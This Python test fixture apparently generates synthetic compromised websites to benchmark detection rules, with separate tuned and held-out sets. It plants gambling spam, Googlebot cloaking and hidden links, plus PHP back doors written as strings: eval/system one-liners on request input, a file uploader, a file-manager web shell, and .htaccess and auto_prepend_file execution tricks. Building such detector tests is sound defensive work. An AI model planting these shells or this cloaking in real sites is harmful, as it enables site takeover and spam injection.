"""Taken-over sites. Those in `SEEN` the rules were tuned on; those in `HELD_OUT` were written before and not looked at.

All of it is inert: what looks like a back door decodes to a harmless text or names functions that do nothing here.
"""

from __future__ import annotations

import base64
import itertools
import random
import zlib
from collections.abc import Mapping

from tests.bench.watch import offices
from tests.bench.watch.site import Recipe, Site

TRADE = (
    "slot gacor hari ini",
    "situs slot online terpercaya",
    "link alternatif resmi",
    "rtp live tertinggi",
    "bonus new member 100",
    "scatter hitam mahjong ways",
    "daftar slot88",
    "togel hongkong",
    "pragmatic play anti rungkad",
    "deposit qris tanpa potongan",
    "maxwin gampang menang",
    "sbobet mix parlay",
)
HARMLESS = "echo 'halo dunia';"


def advert(chance: random.Random, count: int = 8) -> str:
    """Return a page that advertises gambling."""
    said = chance.sample(TRADE, count)
    links = "".join(f'<a href="https://gacor{n}.example/daftar">{words}</a> ' for n, words in enumerate(said))
    return (
        f"<html><head><title>{said[0].upper()} | {said[1].title()}</title></head>"
        f"<body><h1>{said[0].title()}</h1><p>{' '.join(said)}</p>{links}</body></html>"
    )


def _cloaked(site: Site, chance: random.Random) -> None:
    plain = offices.page(chance)
    site.page("/", plain, engine=advert(chance))
    offices.wordpress(site, chance)
    site.file(
        "public/wp-content/themes/contoh/header.php",
        "<?php\n$a = strtolower($_SERVER['HTTP_USER_AGENT']);\n"
        "if (strpos($a, 'googlebot') !== false) {\n"
        "  echo file_get_contents('https://contoh.example/l.txt'); exit;\n}\n?>\n<html>\n",
    )


def _hidden_links(site: Site, chance: random.Random) -> None:
    said = chance.sample(TRADE, 5)
    links = "".join(f'<a href="https://situs{n}.example/">{words}</a>' for n, words in enumerate(said))
    style = chance.choice(("display:none", "position:absolute;left:-9999px", "font-size:0px;", "opacity:0;"))
    body = f'<div style="{style}">{links}</div>'
    site.page("/", offices.page(chance, body=body))
    offices.laravel(site, chance)
    site.file("public/footer.html", f"<footer>{body}</footer>")


def _one_line(site: Site, chance: random.Random) -> None:
    site.page("/", offices.page(chance))
    offices.wordpress(site, chance)
    verb, way = chance.choice(("eval", "assert", "system")), chance.choice(("POST", "REQUEST", "COOKIE"))
    site.file(f"public/wp-content/plugins/hello-{chance.randrange(99)}.php", f"<?php @{verb}($_{way}['k']); ?>")


def _encoded(site: Site, chance: random.Random) -> None:
    packed = base64.b64encode(zlib.compress((HARMLESS * 80).encode())[2:-4]).decode()
    site.page("/", offices.page(chance))
    offices.laravel(site, chance)
    site.file("public/assets/css/style.php", f"<?php /* tema */ eval(gzinflate(base64_decode(str_rot13('{packed}'))));")


def _uploaded(site: Site, chance: random.Random) -> None:
    site.page("/", offices.page(chance))
    offices.wordpress(site, chance)
    site.file(
        f"public/wp-content/uploads/2026/11/{chance.randrange(9999)}.php",
        "<?php if(isset($_FILES['f'])){move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);echo 'ok';}"
        "?><form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>",
    )


def _defaced(site: Site, chance: random.Random) -> None:
    by = chance.choice(("Mr.Contoh", "Tim Uji", "xNama"))
    site.page(
        "/",
        f"<html><head><title>Hacked by {by}</title></head><body bgcolor=black><center><h1>Hacked By {by}</h1>"
        "<p>your security is low, patch your system</p></center></body></html>",
    )
    site.file("public/index.html", f"<title>Hacked by {by}</title>")


def _apache_rules(site: Site, chance: random.Random) -> None:
    site.page("/", offices.page(chance))
    offices.wordpress(site, chance)
    site.file("public/wp-content/uploads/.htaccess", "AddType application/x-httpd-php .jpg .png\n")


def _sent_on(site: Site, chance: random.Random) -> None:
    site.page("/", offices.page(chance), searcher_to="https://maxwin.example/masuk")
    offices.laravel(site, chance)


def _in_a_picture(site: Site, chance: random.Random) -> None:
    site.page("/", offices.page(chance))
    offices.wordpress(site, chance)
    picture = b"\xff\xd8\xff\xe0" + chance.randbytes(900) + b"<?php echo 'halo'; ?>" + chance.randbytes(900)
    site.file("public/wp-content/uploads/2026/logo.jpg", picture)


def _subfolder(site: Site, chance: random.Random) -> None:
    links = "".join(
        f'<li><a href="/berita/{word.replace(" ", "-")}">{word}</a></li>' for word in chance.sample(TRADE, 5)
    )
    site.page("/", offices.page(chance, body=f"<ul>{links}</ul>"))
    site.page("/berita/slot-gacor", advert(chance))
    offices.laravel(site, chance)


# --- held out ------------------------------------------------------------------------------------------------------


def _other_words(site: Site, chance: random.Random) -> None:
    """The trade in other words than those the rules were made from."""
    page = (
        "<html><head><title>TOTO MACAU 4D Resmi - Prediksi Bocoran HK Malam Ini</title></head><body>"
        "<p>Pasaran toto macau, bocoran angka jitu, bo terpercaya, wede pasti cair, kasino langsung, slot server "
        "kamboja, jp paus, modal receh, pola gacor, jam hoki, agen togel terbesar.</p>"
        f'<a href="https://angkajitu{chance.randrange(99)}.example/">Masuk</a></body></html>'
    )
    site.page("/", offices.page(chance), engine=page)
    offices.wordpress(site, chance)


def _japanese(site: Site, chance: random.Random) -> None:
    page = "<html><head><title>激安ブランド時計 通販専門店 正規品</title></head><p>送料無料 激安 通販</p></html>"
    site.page("/", offices.page(chance), engine=page)
    offices.wordpress(site, chance)


def _built_names(site: Site, chance: random.Random) -> None:
    name = ".".join(f"chr({ord(sign)})" for sign in "base64_decode")
    packed = base64.b64encode(HARMLESS.encode()).decode()
    site.page("/", offices.page(chance))
    offices.laravel(site, chance)
    site.file(
        "public/build/cache.php",
        f"<?php $f = {name}; $g = 'cre'.'ate_fun'.'ction'; $h = $g('', $f('{packed}')); $h();",
    )


def _tangled(site: Site, chance: random.Random) -> None:
    labels = [f"{chance.getrandbits(24):06x}" for _ in range(14)]
    body = "".join(f"L{label}: echo ''; goto L{following};\n" for label, following in itertools.pairwise(labels))
    site.page("/", offices.page(chance))
    offices.wordpress(site, chance)
    site.file(
        "public/wp-includes/class-tangled.php",
        f'<?php goto L{labels[0]};\n{body}L{labels[-1]}: echo "\\x68\\x61\\154\\157";\n',
    )


def _from_an_icon(site: Site, chance: random.Random) -> None:
    path = "".join(f"\\{ord(sign):03o}" for sign in "/srv/hosting/contoh/public/img/.a1b2.ico")
    site.page("/", offices.page(chance))
    offices.wordpress(site, chance)
    site.file("public/wp-load.php", f'<?php\n/*a1b2c*/\n@include "{path}";\n/*a1b2c*/\ndefine("X", 1);\n')


def _frame(site: Site, chance: random.Random) -> None:
    source = f"https://iklan{chance.randrange(99)}.example/x"
    body = f'<iframe src="{source}" width=1 height=1 style="visibility:hidden"></iframe>'
    script = (
        "<script>String.fromCharCode("
        + ",".join(str(ord(sign)) for sign in "document.title='halo dunia, ini uji'")
        + ")</script>"
    )
    site.page("/", offices.page(chance, body=body + script))
    offices.laravel(site, chance)
    site.file("public/index.html", body)


def _prepended(site: Site, chance: random.Random) -> None:
    site.page("/", offices.page(chance))
    offices.wordpress(site, chance)
    site.file("public/.user.ini", "auto_prepend_file = /srv/hosting/contoh/public/wp-content/.cache.php\n")
    site.file("public/wp-content/.cache.php", f"<?php\n{HARMLESS}\n")


def _manager(site: Site, chance: random.Random) -> None:
    site.page("/", offices.page(chance))
    offices.laravel(site, chance)
    site.file(
        "public/vendor/pustaka.php",
        "<?php\n$d = $_GET['d'] ?? getcwd();\necho php_uname();\n"
        "foreach (scandir($d) as $f) { echo \"<a href='?d=$d/$f'>$f</a>\"; }\n"
        "if (isset($_POST['isi'])) { file_put_contents($_POST['f'], $_POST['isi']); }\n"
        "if (isset($_GET['h'])) { unlink($_GET['h']); }\n"
        "if (md5($_POST['s'] ?? '') !== '5f4dcc3b5aa765d61d8327deb882cf99') { exit; }\n",
    )


def _masked_by_xor(site: Site, chance: random.Random) -> None:
    """Names made by exclusive or: nothing of them stands in the file."""
    site.page("/", offices.page(chance))
    offices.wordpress(site, chance)
    site.file(
        "public/wp-admin/includes/kelas.php",
        "<?php\n$k = 'kunci';\n$s = base64_decode('CBYLBA==');\n$n = '';\n"
        "for ($i = 0; $i < strlen($s); $i++) { $n .= $s[$i] ^ $k[$i % 5]; }\n$n($n);\n",
    )


def _pictures_only(site: Site, chance: random.Random) -> None:
    """An advertisement of pictures, without a word that could be read, on a page of its own."""
    site.page(
        "/promo",
        '<html><head><title>Promo</title></head><a href="https://promo.example/"><img src="/p.webp"></a></html>',
    )
    site.page("/", offices.page(chance))
    offices.laravel(site, chance)


SEEN: Mapping[str, Recipe] = {
    "selubung": _cloaked,
    "tautan tersembunyi": _hidden_links,
    "satu baris": _one_line,
    "tersandi": _encoded,
    "pengunggah": _uploaded,
    "deface": _defaced,
    "aturan Apache": _apache_rules,
    "dialihkan": _sent_on,
    "dalam gambar": _in_a_picture,
    "subfolder": _subfolder,
}
HELD_OUT: Mapping[str, Recipe] = {
    "kata lain": _other_words,
    "kata Jepang": _japanese,
    "nama dirakit": _built_names,
    "alur kacau": _tangled,
    "dari ikon": _from_an_icon,
    "bingkai": _frame,
    "disisipkan": _prepended,
    "pengelola berkas": _manager,
    "xor": _masked_by_xor,
    "gambar saja": _pictures_only,
}
